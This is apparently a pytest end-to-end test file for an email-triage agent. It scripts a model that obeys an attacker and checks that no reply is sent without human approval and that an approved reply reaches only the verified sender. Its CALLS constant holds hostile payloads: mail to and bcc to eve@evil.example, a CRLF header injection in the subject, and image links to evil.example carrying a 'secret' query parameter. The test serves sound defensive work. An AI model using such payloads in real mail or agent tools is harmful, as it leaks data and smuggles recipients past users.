"""A model that obeys the attacker writes letters: none leaves without a person, and none reaches anybody but the proven sender."""

import json
from email.message import Message
from pathlib import Path

import pytest

from cli.mail.process import worked
from tests.e2e.mail.delivery import delivered, letter
from tests.e2e.mail.letters.test_letters import sent, settings
from tests.e2e.opened import modelled
from tests.hostile.test_goals import ANSWER, ORDER, SENDERS
from tests.servers.mail.smtp import MailServer
from tests.servers.sandbox import RunningJira
from triage.domain.approvals import Approver, ApproverProof
from triage.domain.conversation import ToolCall, Turn, Usage
from triage.domain.mail import Trust
from triage_sandbox.openai_app import Script

EVIL = "eve@evil.example"
GRACE = Approver(name="grace", proof=ApproverProof.SHELL)
BODY = f"![logo](https://evil.example/p.png?q=secret) <img src=https://evil.example/x> mail {EVIL}"
CALLS = (
    {"body": BODY, "to": EVIL},
    {"body": BODY, "bcc": [EVIL]},
    {"body": BODY, "subject": f"Hi\r\nBcc: {EVIL}\r\nX-Evil: 1"},
    {"body": "A second one."},
)
"""What the model calls, in turn: recipients that no tool takes, a header within the subject, one letter too many."""


def _script() -> Script:
    used = Usage(input_tokens=1, output_tokens=1)
    calls = [
        ToolCall(id=f"c{n}", name="send_reply", arguments=json.dumps(arguments)) for n, arguments in enumerate(CALLS)
    ]
    turns = [Turn(text="", calls=(call,), usage=used) for call in calls]
    return Script(*turns, Turn(text="As you wish.", usage=used))


@pytest.mark.parametrize("kind", SENDERS)
async def test_no_letter_leaves_by_itself(
    tmp_path: Path, cloud_jira: RunningJira, mail_server: MailServer, kind: str
) -> None:
    """Whoever writes: with default rights nothing is sent, and what waits for a person is one letter of a proven sender (G12 to G16, G19, G37)."""
    trust, sender, answer = SENDERS[kind]
    async with modelled(cloud_jira, tmp_path, _script(), **settings(mail_server)) as (opened, _):
        await delivered(opened, letter(), "first", Trust.VERIFIED)
        report = await delivered(opened, letter(ORDER, sender=sender, **answer), "second", trust)
        await sent(opened)

    assert mail_server.accepted == []
    waiting = [one for one in report.approvals if one.tool == "send_reply"]
    assert len(waiting) <= (1 if trust is Trust.VERIFIED else 0)


async def test_an_accepted_letter_goes_where_code_says(
    tmp_path: Path, cloud_jira: RunningJira, mail_server: MailServer
) -> None:
    """A person accepts what the attacker worded: its only recipient is the sender, no header is smuggled, nothing is loaded (G12, G13, G16)."""
    async with modelled(cloud_jira, tmp_path, _script(), **settings(mail_server)) as (opened, _):
        report = await delivered(opened, letter(ORDER, **ANSWER), "second", Trust.VERIFIED)
        [parked] = [one for one in report.approvals if one.tool == "send_reply"]
        await opened.approvals.accept(parked.id, GRACE)
        await worked(opened, report.case.id)
        await sent(opened)

    [taken] = mail_server.accepted
    message: Message = taken.message
    assert taken.to == ("dora@corner-shop.example",)
    assert (message["Bcc"], message["X-Evil"], EVIL in str(message["To"])) == (None, None, False)
    html = [part.get_payload(decode=True) for part in message.walk() if part.get_content_type() == "text/html"]
    assert html
    assert not [one for one in html if b"<img" in one]
